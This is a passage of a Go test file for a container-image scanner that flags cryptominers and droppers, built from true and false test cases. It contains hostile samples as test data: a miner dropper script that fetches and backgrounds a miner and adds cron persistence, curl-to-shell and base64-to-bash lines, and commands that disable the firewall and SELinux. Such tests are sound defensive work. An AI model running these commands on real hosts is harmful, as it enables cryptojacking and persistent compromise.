package hierarchical_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"sort"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/detectors/hierarchical"
	"github.com/strata-sec/strata/internal/layers"
)

// everyRuleRow is one image scanned for one rule: fire says whether the
// rule must appear among the verdict's findings (a positive) or must not (a
// negative: a realistic benign image close to the positive ones).
type everyRuleRow struct {
	rule string
	fire bool
	name string
	img  func(t *testing.T) v1.Image
	// opts are the detector's options (nil: defaults).
	opts func(t *testing.T) []hierarchical.Option
	// bug, if set, skips the row with "BUG: <bug>": the rule does not
	// behave as documented and the detector is left as it is.
	bug string
}

// erOne is an image of one layer made by createdBy, with an empty config.
// erBlob is n bytes that look encrypted (SHA-256 in counter mode).
func erBlob(n int) string {
	var b []byte
	for i := uint64(0); len(b) < n; i++ {
		s := sha256.Sum256(binary.LittleEndian.AppendUint64(nil, i))
		b = append(b, s[:]...)
	}
	return string(b[:n])
}

// erZip is a zip archive holding data as one stored member.
func erZip(t *testing.T, data string) string {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "payload.bin", Method: zip.Store})
	if err == nil {
		_, err = f.Write([]byte(data))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func erOne(t *testing.T, createdBy string, files ...dt.File) v1.Image {
	t.Helper()
	return dt.Image(t, v1.Config{}, dt.Step{CreatedBy: createdBy, Files: files})
}

// erCfg is an image of one layer made by createdBy, with config cfg.
func erCfg(t *testing.T, cfg v1.Config, createdBy string, files ...dt.File) v1.Image {
	t.Helper()
	return dt.Image(t, cfg, dt.Step{CreatedBy: createdBy, Files: files})
}

// erRun is an image of one RUN step (BuildKit form) whose layer holds files.
func erRun(t *testing.T, cmd string, files ...dt.File) v1.Image {
	t.Helper()
	return dt.Image(t, v1.Config{}, dt.Run(cmd, files...))
}

// erMachineText reads a text file of this machine, skipping the row without it.
func erMachineText(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Skipf("%s not available on this machine: %v", p, err)
	}
	return string(b)
}

// erUPX returns an ELF with UPX's l_info header ("UPX!" after a checksum
// word) right after the program headers and no section headers, as a
// UPX-packed file carries it (64-bit little-endian ELF only).
func erUPX(t *testing.T, elfBytes string) string {
	t.Helper()
	b := []byte(elfBytes)
	if len(b) < 64 || b[4] != 2 || b[5] != 1 {
		t.Skip("not a 64-bit little-endian ELF")
	}
	binary.LittleEndian.PutUint64(b[40:], 0) // e_shoff
	binary.LittleEndian.PutUint16(b[60:], 0) // e_shnum
	binary.LittleEndian.PutUint16(b[62:], 0) // e_shstrndx
	phoff := binary.LittleEndian.Uint64(b[32:])
	end := int(phoff) + int(binary.LittleEndian.Uint16(b[54:]))*int(binary.LittleEndian.Uint16(b[56:]))
	if end+8 > len(b) {
		t.Skip("program headers too close to the end")
	}
	copy(b[end+4:], "UPX!")
	return string(b)
}

// erDropper is a miner dropper script of realistic length (TLSH needs at
// least 256 bytes), the "first sighting" the hash signal learns from.
const erDropper = `#!/bin/sh
# system update helper
cd /tmp || cd /var/tmp || exit 1
for u in http://203.0.113.7/kk http://198.51.100.9/kk; do
    wget -q "$u" -O /tmp/.kworker && break
    curl -fsSL "$u" -o /tmp/.kworker && break
done
chmod +x /tmp/.kworker
nohup /tmp/.kworker -o stratum+tcp://203.0.113.10:3333 -u ` + wallet + ` -p x --donate-level 1 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/10 * * * * /tmp/.kworker -o stratum+tcp://203.0.113.10:3333") | crontab -
history -c
`

// erLearnSamples learns the known samples of an image whose second layer
// adds the dropper script and a miner ELF (the first sighting).
func erLearnSamples(t *testing.T) []hierarchical.KnownSample {
	t.Helper()
	first := dt.Image(t, v1.Config{},
		dt.Step{CreatedBy: "/bin/sh -c #(nop) ADD file:0123 in / ", Files: []dt.File{dt.Exec("usr/bin/ls", machineFile(t, "/bin/ls"))}},
		dt.Step{CreatedBy: "COPY . /usr/local/lib/ # buildkit", Files: []dt.File{
			dt.Exec("usr/local/lib/update.sh", erDropper), dt.Exec("usr/local/lib/kworkerd", erMinerELF(t))}})
	ks, err := hierarchical.LearnKnownSamples(context.Background(), first, []int{1})
	if err != nil {
		t.Fatal(err)
	}
	if len(ks) != 2 || ks[0].TLSH == "" || ks[1].TLSH == "" {
		t.Fatalf("learned %+v, want the dropper and the ELF, with a TLSH each", ks)
	}
	return ks
}

func erSHA256(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// erMinerELF is a real ELF of this machine carrying the strings of a miner
// client: strong evidence (elf-stratum-methods) without a miner name.
func erMinerELF(t *testing.T) string {
	return elfWith(t, "login", "job", "submit", "keepalived", `{"id":1,"method":"%s","params":{"job_id":"%s"}}`)
}

// erBigScript is a harmless shell script of about n bytes.
func erBigScript(n int) string {
	var b strings.Builder
	b.WriteString("#!/bin/sh\nset -e\n")
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "install -d -m 0755 /var/lib/app/shard-%04d\n", i)
	}
	return b.String()
}

const erDockerPHPEntrypoint = "#!/bin/sh\nset -e\n\n# first arg is `-f` or `--some-option`\nif [ \"${1#-}\" != \"$1\" ]; then\n\tset -- apache2-foreground \"$@\"\nfi\n\nexec \"$@\"\n"

const erCpuminerC = `static bool stratum_subscribe(struct stratum_ctx *sctx)
{
	sprintf(s, "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"" USER_AGENT "\"]}");
}
static bool stratum_authorize(struct stratum_ctx *sctx, const char *user, const char *pass)
{
	sprintf(s, "{\"id\": 2, \"method\": \"mining.authorize\", \"params\": [\"%s\", \"%s\"]}", user, pass);
	if (!strncasecmp(rpc_url, "stratum+tcp://", 14)) have_stratum = true;
}`

func everyRuleRows() []everyRuleRow {
	const R = true  // the rule must fire
	const Q = false // the rule must stay quiet
	limits := func(o ...layers.WalkOption) func(*testing.T) []hierarchical.Option {
		return func(*testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithWalkOptions(o...)}
		}
	}
	scriptLimit := func(n int64) func(*testing.T) []hierarchical.Option {
		return func(*testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithMaxScriptBytes(n)}
		}
	}
	xmrigConfig := `{
    "autosave": true,
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [{"url": "pool.supportxmr.com:3333", "user": "` + wallet + `", "pass": "x", "tls": false}]
}`
	return []everyRuleRow{
		// ---- behavior ----
		{hierarchical.RuleMinerBinary, R, "ELF named xmrig copied into PATH", func(t *testing.T) v1.Image {
			return erOne(t, "COPY xmrig /usr/local/bin/ # buildkit", dt.Exec("usr/local/bin/xmrig", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleMinerBinary, Q, "bash completion file named xmrig", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y xmrig-completion", dt.Text("usr/share/bash-completion/completions/xmrig", "complete -F _xmrig xmrig\n"))
		}, nil, ""},
		{hierarchical.RuleMinerBinary, Q, "xmrig config file next to a renamed program", func(t *testing.T) v1.Image {
			return erOne(t, "COPY . /opt/app # buildkit", dt.Text("opt/app/xmrig.json", "{}\n"), dt.Exec("opt/app/run", machineFile(t, "/bin/true")))
		}, nil, ""},

		{hierarchical.RuleEntrypointMiner, R, "ENTRYPOINT xmrig", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"xmrig", "--config=/etc/xmrig/config.json"}}, "COPY config.json /etc/xmrig/ # buildkit",
				dt.Text("etc/xmrig/config.json", "{}\n"))
		}, nil, ""},
		{hierarchical.RuleEntrypointMiner, Q, "Monero node ENTRYPOINT monerod", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/usr/local/bin/monerod", "--non-interactive", "--data-dir=/data"}},
				"COPY monerod /usr/local/bin/ # buildkit", dt.Exec("usr/local/bin/monerod", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleEntrypointMiner, Q, "official php image wrapper", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"docker-php-entrypoint"}, Cmd: []string{"apache2-foreground"}},
				"COPY docker-php-entrypoint /usr/local/bin/ # buildkit", dt.Exec("usr/local/bin/docker-php-entrypoint", erDockerPHPEntrypoint))
		}, nil, ""},

		{hierarchical.RuleRunMiner, R, "start script runs ./xmrig", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("start.sh", "#!/bin/sh\ncd /opt/app\nexec ./xmrig --config=config.json\n"))
		}, nil, ""},
		{hierarchical.RuleRunMiner, R, "RUN step runs minerd", func(t *testing.T) v1.Image {
			return erRun(t, "/usr/local/bin/minerd --help > /dev/null", dt.Text("etc/hostname", "builder\n"))
		}, nil, ""},
		{hierarchical.RuleRunMiner, Q, "miner repository cloned, not run", func(t *testing.T) v1.Image {
			return erRun(t, "git clone https://github.com/xmrig/xmrig && cd xmrig && mkdir build", dt.Text("xmrig/CMakeLists.txt", "project(xmrig C CXX)\n"))
		}, nil, ""},
		{hierarchical.RuleRunMiner, Q, "rustup-style curl | sh installer", func(t *testing.T) v1.Image {
			return erRun(t, "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", dt.Exec("root/.cargo/bin/rustc", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleRunMiner, Q, "start script runs monerod", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("start.sh", "#!/bin/sh\nexec /usr/local/bin/monerod --data-dir /data --non-interactive\n"))
		}, nil, ""},

		{hierarchical.RuleMinerOptions, R, "CMD with --donate-level", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"/opt/app/agent", "--donate-level", "1", "-o", "203.0.113.9:3333"}}, "COPY agent /opt/app/ # buildkit",
				dt.Exec("opt/app/agent", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleMinerOptions, R, "cpuminer -a cryptonight in a script", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("opt/run.sh", "#!/bin/sh\n/opt/a.out -a cryptonight -o 203.0.113.9:3333 -u x\n"))
		}, nil, ""},
		{hierarchical.RuleMinerOptions, Q, "tar -a and openssl -a in a backup script", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("usr/local/bin/backup.sh", "#!/bin/sh\ntar -a -cf /backup/srv.tar.gz /srv\nopenssl enc -a -d -in /etc/key.b64 -out /run/key\n"))
		}, nil, ""},

		{hierarchical.RuleExecAddedPath, R, "COPY of an executable into /usr/local/bin", func(t *testing.T) v1.Image {
			return erOne(t, "COPY --chmod=755 tool /usr/local/bin/tool # buildkit", dt.Exec("usr/local/bin/tool", "#!/bin/sh\necho hi\n"))
		}, nil, ""},
		{hierarchical.RuleExecAddedPath, Q, "apt-get install into /usr/bin (RUN)", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y coreutils", dt.Exec("usr/bin/true", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleExecAddedPath, Q, "base image rootfs ADD in /", func(t *testing.T) v1.Image {
			return erOne(t, "/bin/sh -c #(nop) ADD file:d14b4935772 in / ", dt.Exec("usr/bin/true", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleExecAddedPath, Q, "COPY of an executable outside PATH", func(t *testing.T) v1.Image {
			return erOne(t, "COPY app /opt/app # buildkit", dt.Exec("opt/app/run", "#!/bin/sh\necho hi\n"))
		}, nil, ""},

		{hierarchical.RulePersistenceMiner, R, "cron.d entry runs xmrig", func(t *testing.T) v1.Image {
			return erOne(t, "COPY root /etc/cron.d/root # buildkit", dt.Text("etc/cron.d/root", "* * * * * root /tmp/.x/xmrig -o pool.minexmr.com:4444 -B\n"))
		}, nil, ""},
		{hierarchical.RulePersistenceMiner, R, "systemd unit starts xmrig", func(t *testing.T) v1.Image {
			return erOne(t, "COPY m.service /etc/systemd/system/ # buildkit",
				dt.Text("etc/systemd/system/c3pool_miner.service", "[Unit]\nDescription=Monero miner service\n[Service]\nExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json\nRestart=always\n"))
		}, nil, ""},
		{hierarchical.RulePersistenceMiner, Q, "this machine's /etc/cron.daily/logrotate", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y logrotate", dt.Exec("etc/cron.daily/logrotate", erMachineText(t, "/etc/cron.daily/logrotate")))
		}, nil, ""},
		{hierarchical.RulePersistenceMiner, Q, "Debian cron.daily/logrotate and cron.d/e2scrub_all (testdata)", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y logrotate e2fsprogs", dt.Exec("etc/cron.daily/logrotate", testdata(t, "debian/cron.daily-logrotate")),
				dt.Text("etc/cron.d/e2scrub_all", testdata(t, "debian/cron.d-e2scrub_all")))
		}, nil, ""},

		{hierarchical.RulePersistenceFetch, R, "user crontab curl | sh", func(t *testing.T) v1.Image {
			return erRun(t, "crontab /tmp/c", dt.Text("var/spool/cron/crontabs/root", "*/5 * * * * curl -fsSL http://203.0.113.8/a.sh | sh\n"))
		}, nil, ""},
		{hierarchical.RulePersistenceFetch, Q, "this machine's /etc/cron.daily/apt-compat", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y apt", dt.Exec("etc/cron.daily/apt-compat", erMachineText(t, "/etc/cron.daily/apt-compat")))
		}, nil, ""},
		{hierarchical.RulePersistenceFetch, Q, "Debian apt-daily.service (testdata)", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y apt", dt.Text("lib/systemd/system/apt-daily.service", testdata(t, "debian/apt-daily.service")))
		}, nil, ""},

		{hierarchical.RuleKillCompetitors, R, "pkill -f xmrig", func(t *testing.T) v1.Image {
			return erRun(t, "pkill -f xmrig || true", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleKillCompetitors, R, "script kills kdevtmpfsi", func(t *testing.T) v1.Image {
			return erOne(t, "COPY run /usr/local/bin/run # buildkit", dt.Exec("usr/local/bin/run", "#!/usr/bin/env bash\npkill -f kdevtmpfsi\n"))
		}, nil, ""},
		{hierarchical.RuleKillCompetitors, Q, "log rotation reloads rsyslogd, stops gunicorn", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("usr/local/bin/rotate.sh", "#!/bin/sh\nkillall -HUP rsyslogd\npkill -f gunicorn\nps aux | grep nginx | awk '{print $2}' | xargs kill\n"))
		}, nil, ""},

		{hierarchical.RuleDefenseEvasion, R, "history -c in a RUN step", func(t *testing.T) v1.Image {
			return erRun(t, "rm -f /root/.bash_history; history -c", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleDefenseEvasion, R, "ufw disable and setenforce 0 in a script", func(t *testing.T) v1.Image {
			return erOne(t, "COPY init.sh / # buildkit", dt.Exec("init.sh", "#!/bin/sh\nufw disable\nsetenforce 0\n"))
		}, nil, ""},
		{hierarchical.RuleDefenseEvasion, Q, "ufw allow and systemctl stop nginx", func(t *testing.T) v1.Image {
			return erOne(t, "COPY init.sh / # buildkit", dt.Exec("init.sh", "#!/bin/sh\nufw allow 22/tcp\nsystemctl stop nginx\ngit log --oneline | head\n"))
		}, nil, ""},

		{hierarchical.RulePathEscape, R, "tar entry ../evil", func(t *testing.T) v1.Image {
			return erOne(t, "COPY . / # buildkit", dt.Text("etc/hostname", "x\n"), dt.Text("../evil", "x"))
		}, nil, ""},
		{hierarchical.RulePathEscape, Q, "Debian-style relative links and ./ names", func(t *testing.T) v1.Image {
			return erOne(t, "/bin/sh -c #(nop) ADD file:d14b4935772 in / ",
				dt.Symlink("bin", "usr/bin"), dt.Text("./usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "x"),
				dt.Symlink("lib64/ld-linux-x86-64.so.2", "../lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
				dt.Text("/etc/hostname", "x\n"), dt.Hardlink("etc/hostname.bak", "etc/hostname"))
		}, nil, ""},

		// ---- domain / IP ----
		{hierarchical.RuleStratumURL, R, "pool URL in a config file", func(t *testing.T) v1.Image {
			return erOne(t, "COPY pool.conf /opt/app/ # buildkit", dt.Text("opt/app/pool.conf", "url = stratum+tcp://pool.example.net:3333\n"))
		}, nil, ""},
		{hierarchical.RuleStratumURL, R, "pool URL in ENV", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Env: []string{"POOL=stratum+ssl://203.0.113.10:443"}}, "RUN true # buildkit", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleStratumURL, Q, "the word stratum in a package description (PKG-INFO)", func(t *testing.T) v1.Image {
			return erRun(t, "pip install stratum", dt.Text("usr/lib/python3/dist-packages/stratum-0.2.13.egg-info/PKG-INFO", testdata(t, "python-stratum-PKG-INFO")))
		}, nil, ""},
		{hierarchical.RuleStratumURL, Q, "bare stratum+tcp:// scheme constant in miner source", func(t *testing.T) v1.Image {
			return erRun(t, "git clone https://git.example.org/ops/tools.git /src", dt.Text("src/util.c", erCpuminerC))
		}, nil, ""},

		{hierarchical.RulePoolDomain, R, "xmrig config names pool.supportxmr.com", func(t *testing.T) v1.Image {
			return erOne(t, "COPY config.json /opt/xmrig/ # buildkit", dt.Text("opt/xmrig/config.json", xmrigConfig))
		}, nil, ""},
		{hierarchical.RulePoolDomain, Q, "lookalike pool host names", func(t *testing.T) v1.Image {
			return erOne(t, "COPY hosts.conf /etc/app/ # buildkit", dt.Text("etc/app/hosts.conf", "api=notminexmr.com\nmirror=minexmr.com.example.org\nshop=nanopool.organic\n"))
		}, nil, ""},

		{hierarchical.RuleMinerPort, R, "xmrig -o IP:14444", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"xmrig", "-o", "203.0.113.9:14444"}}, "RUN true # buildkit", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleMinerPort, Q, "java app with -o http://localhost:8080", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"java", "-jar", "/app/app.jar", "-o", "http://localhost:8080"}}, "COPY app.jar /app/ # buildkit",
				dt.Text("app/app.jar", "PK\x03\x04"))
		}, nil, ""},

		{hierarchical.RuleMinerRepo, R, "git clone of xmrig", func(t *testing.T) v1.Image {
			return erRun(t, "git clone https://github.com/xmrig/xmrig /opt/src", dt.Text("opt/src/.keep", ""))
		}, nil, ""},
		{hierarchical.RuleMinerRepo, R, ".git/config of a miner clone", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("cpuminer-multi/.git/config", "[remote \"origin\"]\n\turl = https://github.com/OhGodAPet/cpuminer-multi\n"))
		}, nil, ""},
		{hierarchical.RuleMinerRepo, Q, "git clone of monero (monero README's own build step)", func(t *testing.T) v1.Image {
			return erRun(t, "git clone --recursive https://github.com/monero-project/monero /src/monero",
				dt.Text("src/monero/.git/config", "[remote \"origin\"]\n\turl = https://github.com/monero-project/monero\n"))
		}, nil, ""},
		{hierarchical.RuleMinerRepo, Q, "clone into a directory named xmrig", func(t *testing.T) v1.Image {
			return erRun(t, "git clone https://git.example.org/ops/tools.git xmrig", dt.Text("xmrig/README", "ops tools\n"))
		}, nil, ""},

		{hierarchical.RuleRawIPDownload, R, "wget from a raw IP", func(t *testing.T) v1.Image {
			return erRun(t, "wget http://203.0.113.35/x.sh -O /tmp/x.sh", dt.Text("tmp/x.sh", "echo hi\n"))
		}, nil, ""},
		{hierarchical.RuleRawIPDownload, Q, "download from a host name, IP only echoed", func(t *testing.T) v1.Image {
			return erRun(t, "curl -fsSL https://installer.example.com/setup_20.x -o /tmp/setup.sh && echo http://192.0.2.4/ > /etc/app.url",
				dt.Text("tmp/setup.sh", "echo setup\n"), dt.Text("etc/app.url", "http://192.0.2.4/\n"))
		}, nil, ""},

		{hierarchical.RuleDocMiningReference, R, "monero README in /usr/share/doc", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y monero", dt.Text("usr/share/doc/monero/README.md", testdata(t, "monero-README.md")))
		}, nil, ""},
		{hierarchical.RuleDocMiningReference, Q, "python-stratum description as documentation", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y python3-stratum", dt.Text("usr/share/doc/python3-stratum/README", testdata(t, "python-stratum-PKG-INFO")))
		}, nil, ""},
		{hierarchical.RuleDocMiningReference, Q, "this machine's base-files README", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y base-files", dt.Text("usr/share/doc/base-files/README", erMachineText(t, "/usr/share/doc/base-files/README")))
		}, nil, ""},

		// ---- shell ----
		{hierarchical.RuleDownloadPipeShell, R, "curl from an IP piped to sh", func(t *testing.T) v1.Image {
			return erRun(t, "curl -fsSL http://203.0.113.5/i.sh | sh", dt.Text("etc/setup.done", ""))
		}, nil, ""},
		{hierarchical.RuleDownloadPipeShell, Q, "curl piped to tar (drupal release)", func(t *testing.T) v1.Image {
			return erRun(t, "curl -fsSL https://ftp.drupal.org/files/projects/drupal-10.2.0.tar.gz | tar -xz -C /var/www", dt.Text("var/www/drupal/index.php", "<?php\n"))
		}, nil, ""},

		{hierarchical.RuleBase64Exec, R, "base64 -d | bash", func(t *testing.T) v1.Image {
			return erRun(t, "echo ZWNobyBoaQ== | base64 -d | bash", dt.Text("etc/setup.done", ""))
		}, nil, ""},
		{hierarchical.RuleBase64Exec, Q, "base64 -d of a key into a file", func(t *testing.T) v1.Image {
			return erRun(t, "base64 -d /tmp/key.b64 > /etc/ssl/private/key.pem", dt.Text("etc/ssl/private/key.pem", "-----BEGIN PRIVATE KEY-----\n"))
		}, nil, ""},

		{hierarchical.RuleBackgroundMiner, R, "nohup ./xmrig &", func(t *testing.T) v1.Image {
			return erOne(t, "COPY start.sh / # buildkit", dt.Exec("start.sh", "#!/bin/sh\nnohup ./xmrig -o pool.example:3333 -u W &\nwait\n"))
		}, nil, ""},
		{hierarchical.RuleBackgroundMiner, Q, "nohup web app &", func(t *testing.T) v1.Image {
			return erOne(t, "COPY start.sh / # buildkit", dt.Exec("start.sh", "#!/bin/sh\nnohup python3 app.py > /var/log/app.log 2>&1 &\nnginx -g 'daemon off;' &\nwait\n"))
		}, nil, ""},
		{hierarchical.RuleBackgroundMiner, Q, "rustup-style curl | sh in the background", func(t *testing.T) v1.Image {
			return erOne(t, "COPY setup.sh / # buildkit", dt.Exec("setup.sh", "#!/bin/sh\n(curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y) &\nwait\n"))
		}, nil, ""},

		{hierarchical.RuleHugepagesMSR, R, "sysctl vm.nr_hugepages and modprobe msr", func(t *testing.T) v1.Image {
			return erRun(t, "sysctl -w vm.nr_hugepages=1280; modprobe msr allow_writes=on", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleHugepagesMSR, Q, "other sysctl and module", func(t *testing.T) v1.Image {
			return erRun(t, "sysctl -w net.core.somaxconn=1024 && modprobe overlay", dt.Text("etc/sysctl.d/99-app.conf", "net.core.somaxconn=1024\n"))
		}, nil, ""},

		{hierarchical.RuleChmodExec, R, "chmod +x then run", func(t *testing.T) v1.Image {
			return erRun(t, "chmod +x ./install.sh && ./install.sh --prefix=/usr", dt.Text("usr/share/app/VERSION", "1\n"))
		}, nil, ""},
		{hierarchical.RuleChmodExec, Q, "chmod of an entrypoint, not run", func(t *testing.T) v1.Image {
			return erRun(t, "chmod 755 /usr/local/bin/docker-entrypoint.sh", dt.Exec("usr/local/bin/docker-entrypoint.sh", erDockerPHPEntrypoint))
		}, nil, ""},

		{hierarchical.RuleDownloadChmodExec, R, "wget, chmod, run", func(t *testing.T) v1.Image {
			return erRun(t, "wget http://203.0.113.7/kk -O /tmp/kk; chmod 777 /tmp/kk; /tmp/kk", dt.Text("etc/hostname", "x\n"))
		}, nil, ""},
		{hierarchical.RuleDownloadChmodExec, Q, "tini download and chmod, not run", func(t *testing.T) v1.Image {
			return erRun(t, "curl -fsSLo /usr/local/bin/tini https://github.com/krallin/tini/releases/download/v0.19.0/tini && chmod +x /usr/local/bin/tini",
				dt.Exec("usr/local/bin/tini", machineFile(t, "/bin/true")))
		}, nil, ""},

		// ---- binary ----
		{hierarchical.RuleELFStratum, R, "ELF with Bitcoin stratum methods", func(t *testing.T) v1.Image {
			return erOne(t, "ADD m /opt/m # buildkit", dt.Exec("opt/m", elfWith(t, "mining.subscribe", "mining.authorize", "mining.submit")))
		}, nil, ""},
		{hierarchical.RuleELFStratum, R, "ELF with XMRig's CryptoNote stratum", func(t *testing.T) v1.Image {
			return erOne(t, "ADD m /opt/m # buildkit", dt.Exec("opt/m", erMinerELF(t)))
		}, nil, ""},
		{hierarchical.RuleELFStratum, Q, "systemd-like GetJob/login/job_id strings", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y systemd", dt.Text("usr/lib/x86_64-linux-gnu/systemd/libsystemd-core.so", elfWith(t, "GetJob", "login", "job", "job_id", "Submit")))
		}, nil, ""},
		{hierarchical.RuleELFStratum, Q, "keepalived daemon words", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y keepalived", dt.Exec("usr/sbin/keepalived", elfWith(t, "keepalived", "login", "submit", "job")))
		}, nil, ""},

		{hierarchical.RuleStratumSource, R, "cpuminer client source", func(t *testing.T) v1.Image {
			return erRun(t, "git clone https://git.example.org/src.git /src", dt.Text("src/cpuminer-multi/util.c", erCpuminerC))
		}, nil, ""},
		{hierarchical.RuleStratumSource, Q, "Electrum client source", func(t *testing.T) v1.Image {
			return erRun(t, "pip install electrum", dt.Text("usr/lib/python3/electrum/network.py",
				"def subscribe(self):\n    return self.request(\"blockchain.scripthash.subscribe\", [sh])\ndef version(self):\n    return self.request(\"server.version\", [\"electrum\", \"1.4\"])\n"))
		}, nil, ""},
		{hierarchical.RuleStratumSource, Q, "web app with login/submit/job_id", func(t *testing.T) v1.Image {
			return erOne(t, "COPY app /srv/app # buildkit", dt.Text("srv/app/views.py",
				`urls = {"login": login_view, "submit": submit_view, "job": job_view}`+"\njob_id = request.args['job_id']\n"))
		}, nil, ""},

		{hierarchical.RuleELFAlgorithms, R, "ELF naming cryptonight, rx/0, cn/r", func(t *testing.T) v1.Image {
			return erOne(t, "ADD m /opt/m # buildkit", dt.Exec("opt/m", elfWith(t, "cryptonight", "rx/0", "cn/r")))
		}, nil, ""},
		{hierarchical.RuleELFAlgorithms, Q, "crypto library KDF names", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y libsodium23", dt.Text("usr/lib/libsodium.so.23", elfWith(t, "argon2id", "scrypt", "sha256", "chacha20")))
		}, nil, ""},
		{hierarchical.RuleELFAlgorithms, Q, "this machine's libcrypto", func(t *testing.T) v1.Image {
			return erRun(t, "apt-get install -y libssl3", dt.Text("usr/lib/x86_64-linux-gnu/libcrypto.so.3", machineFile(t, "/usr/lib/x86_64-linux-gnu/libcrypto.so.3")))
		}, nil, ""},

		{hierarchical.RuleELFMinerAgent, R, "ELF with XMRig/6.21.0", func(t *testing.T) v1.Image {
			return erOne(t, "ADD m /opt/m # buildkit", dt.Exec("opt/m", elfWith(t, "XMRig/6.21.0")))
		}, nil, ""},
		{hierarchical.RuleELFMinerAgent, Q, "browser and curl agents", func(t *testing.T) v1.Image {
			return erOne(t, "ADD app /usr/bin/app # buildkit", dt.Exec("usr/bin/app", elfWith(t, "Mozilla/5.0 (Linux; Android 10)", "%s/%s (Linux %s)", "curl/%s")))
		}, nil, ""},

		{hierarchical.RuleELFPacked, R, "/bin/true with UPX! magic", func(t *testing.T) v1.Image {
			return erOne(t, "COPY tool /opt/tool # buildkit", dt.Exec("opt/tool", erUPX(t, machineFile(t, "/bin/true"))))
		}, nil, ""},
		{hierarchical.RuleELFPacked, R, "/bin/true + an encrypted overlay twice its size", func(t *testing.T) v1.Image {
			b := machineFile(t, "/bin/true")
			return erOne(t, "COPY tool /opt/tool # buildkit", dt.Exec("opt/tool", b+erBlob(2*len(b))))
		}, nil, ""},
		{hierarchical.RuleELFPacked, Q, "/bin/true + an appended zip of the same blob (self-extractor)", func(t *testing.T) v1.Image {
			b := machineFile(t, "/bin/true")
			return erOne(t, "COPY tool /opt/tool # buildkit", dt.Exec("opt/tool", b+erZip(t, erBlob(2*len(b)))))
		}, nil, ""},
		{hierarchical.RuleELFPacked, Q, "this machine's /bin/true", func(t *testing.T) v1.Image {
			return erOne(t, "COPY tool /opt/tool # buildkit", dt.Exec("opt/tool", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleELFPacked, Q, "this machine's /bin/ls", func(t *testing.T) v1.Image {
			return erOne(t, "COPY tool /opt/tool # buildkit", dt.Exec("opt/tool", machineFile(t, "/bin/ls")))
		}, nil, ""},

		{hierarchical.RuleFuzzyHash, R, "learned dropper, renamed (sha256)", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /usr/lib/.x/ # buildkit", dt.Exec("usr/lib/.x/sysupdate", erDropper))
		}, func(t *testing.T) []hierarchical.Option {
			return []hierarchical.Option{hierarchical.WithKnownSamples(erLearnSamples(t))}
		}, ""},
		{hierarchical.RuleFuzzyHash, R, "learned miner ELF rebuilt with more strings (TLSH)", func(t *testing.T) v1.Image {
			return erOne(t, "COPY x /opt/ # buildkit", dt.Exec("opt/.x/agent", erMinerELF(t)+"stratum+tcp://%s:%d\x00XMRig/%s\x00"))
		}, func(t *testing.T) []hierarchical.Option {
